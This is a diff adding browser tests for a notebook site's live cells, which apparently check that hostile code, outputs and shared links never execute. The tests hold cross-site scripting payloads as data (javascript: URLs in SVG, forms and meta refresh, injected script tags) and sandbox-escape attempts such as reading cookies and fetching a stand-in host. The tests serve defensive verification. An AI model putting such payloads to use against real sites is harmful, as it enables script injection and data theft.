@@ -158,3 +158,116 @@ describe("hostile input never runs", () => {
     });
   });
 });
+
+/**
+ * Live notebooks (src/client/runtime): the reader's cell code runs only in
+ * the worker, and what it outputs is sanitised before it reaches the page;
+ * a shared link's edits are shown as text and never run.
+ */
+describe("live notebooks: hostile cell code, outputs and shared links never run on the page", () => {
+  const NOTEBOOK = () => `${site("real").url}notebooks/06-your-model/`;
+
+  async function startLive(page: Page): Promise<number> {
+    await page.locator(".cell-code").first().hover();
+    await page.locator(".live-page-bar").waitFor();
+    return Number(await page.locator(".cell-code", { hasText: "const presetId" }).first().getAttribute("data-cell"));
+  }
+
+  async function runSource(page: Page, cell: number, source: string): Promise<void> {
+    await page.locator(`.cell-code[data-cell="${cell}"] .live-cell-bar`).getByRole("button", { name: "Edit" }).click();
+    await page.locator(`.cell-code[data-cell="${cell}"] .cm-content`).click();
+    await page.keyboard.press("Control+A");
+    await page.keyboard.insertText(source);
+    await page.keyboard.press("Shift+Enter");
+    await page.waitForFunction(() => {
+      const { document } = globalThis as unknown as PageGlobals;
+      return document.querySelector('[data-live="running"], .live-slot') === null && document.querySelector("[data-live]") !== null;
+    });
+  }
+
+  it("HTML, SVG, Markdown and island outputs carrying payloads are sanitised; console.log shows them as text", async () => {
+    await withPage(NOTEBOOK(), async (page, problems, dialogs) => {
+      const cell = await startLive(page);
+      for (const payload of [...PAYLOADS, '<svg><a href="javascript:window.__pwned=1"><text>x</text></a><animate attributeName="href" to="javascript:window.__pwned=1"/><image href="http://127.0.0.2/x.png"/></svg>', "<style>@import url(http://127.0.0.2/x.css); body { background: url(http://127.0.0.2/y.png) }</style>", '<form action="http://127.0.0.2/"><button formaction="javascript:window.__pwned=1">go</button></form>', "<meta http-equiv=refresh content=\"0;url=javascript:window.__pwned=1\"><base href=\"http://127.0.0.2/\">"]) {
+        const source = [
+          `import { displayBundle, showMarkdown } from "./src/notebook/index";`,
+          `const payload = ${JSON.stringify(payload)};`,
+          `displayBundle({ data: { "text/html": payload, "text/plain": "x" }, metadata: {} });`,
+          `displayBundle({ data: { "image/svg+xml": payload }, metadata: { caption: payload } });`,
+          `displayBundle({ data: { "application/vnd.how-many-flops.island+json": { island: "energy", props: { model: payload } }, "text/html": payload }, metadata: {} });`,
+          `showMarkdown(payload);`,
+          `console.log(payload);`,
+        ].join("\n");
+        await runSource(page, cell, source);
+        count("live: outputs");
+        // console.log's text arrives literally.
+        await expect.poll(() => page.locator(`.cell-code[data-cell="${cell}"] .live-outputs .output-stream`).textContent()).toBe(`${payload}\n`);
+        await expectNothingRan(page, problems, dialogs, `outputs carrying ${payload}`);
+        expect(problems.requests.filter((request) => request.includes("127.0.0.2")), payload).toEqual([]);
+        const leftovers = await page.locator(`.cell-code[data-cell="${cell}"] .live-outputs`).evaluate((outputs) =>
+          [...outputs.querySelectorAll("*")].flatMap((element) => [
+            ...(["script", "iframe", "style", "form", "meta", "base", "animate"].includes(element.localName) ? [element.localName] : []),
+            // data-* values are text (an island's props, read with JSON.parse and validated), never URLs or code.
+            ...[...element.attributes].filter((attribute) => !attribute.name.startsWith("data-")).filter((attribute) => /^on/i.test(attribute.name) || /^\s*javascript:/i.test(attribute.value) || /127\.0\.0\.2/.test(attribute.value)).map((attribute) => `${element.localName}[${attribute.name}]`),
+          ]),
+        );
+        expect(leftovers, payload).toEqual([]);
+      }
+    });
+  });
+
+  it("cell code cannot reach the page, its storage or the network", async () => {
+    await withPage(NOTEBOOK(), async (page, problems, dialogs) => {
+      const cell = await startLive(page);
+      const attempts = [
+        "window.__pwned = 1;",
+        "document.cookie;",
+        "localStorage.setItem('x', '1');",
+        "fetch('http://127.0.0.2/');",
+        "new XMLHttpRequest();",
+        "importScripts('http://127.0.0.2/x.js');",
+        "new WebSocket('ws://127.0.0.2/');",
+      ];
+      for (const attempt of attempts) {
+        await runSource(page, cell, attempt);
+        count("live: escape attempts");
+        // Each fails inside the worker with an error shown as text in the cell.
+        await expect.poll(() => page.locator(`.cell-code[data-cell="${cell}"] .output-error`).count(), { timeout: 5000 }).toBe(1);
+        await expectNothingRan(page, problems, dialogs, attempt);
+      }
+      expect(problems.requests.filter((request) => request.includes("127.0.0.2"))).toEqual([]);
+    });
+  });
+
+  it("a shared link whose edits carry payloads shows them as text and runs nothing; a malformed link is refused with a message", async () => {
+    // Build a link the way the page does (deflate-raw, base64url), with the page's own encoder.
+    const edited = `${PAYLOADS.join("\n")}\n</pre><script>window.__pwned = 1</script>`;
+    let link = "";
+    await withPage(NOTEBOOK(), async (page) => {
+      const cell = await startLive(page);
+      await page.locator(`.cell-code[data-cell="${cell}"] .live-cell-bar`).getByRole("button", { name: "Edit" }).click();
+      await page.locator(`.cell-code[data-cell="${cell}"] .cm-content`).click();
+      await page.keyboard.press("Control+A");
+      await page.keyboard.insertText(edited);
+      await page.getByRole("button", { name: "Copy link with my edits" }).click();
+      await expect.poll(() => page.url()).toContain("#edits=");
+      link = page.url();
+    });
+    await withPage(link, async (page, problems, dialogs) => {
+      await expect.poll(() => page.locator("pre.live-source").count()).toBe(1);
+      expect(await page.locator("pre.live-source").textContent()).toBe(edited);
+      expect(await page.locator("[data-live]").count()).toBe(0);
+      count("live: shared link");
+      await expectNothingRan(page, problems, dialogs, "shared link with payloads");
+    });
+    const malformed = ["%3Cscript%3E", "AAAA", "not base64!", "_".repeat(300_000)];
+    for (const payload of malformed) {
+      await withPage(`${NOTEBOOK()}#edits=${payload}`, async (page, problems, dialogs) => {
+        await expect.poll(() => page.locator(".live-page-status").textContent(), { timeout: 15_000 }).toContain("This link's edits were not applied");
+        expect(await page.locator("pre.live-source, [data-live]").count()).toBe(0);
+        count("live: malformed link");
+        await expectNothingRan(page, problems, dialogs, `#edits=${payload.slice(0, 20)}`);
+      });
+    }
+  });
+});
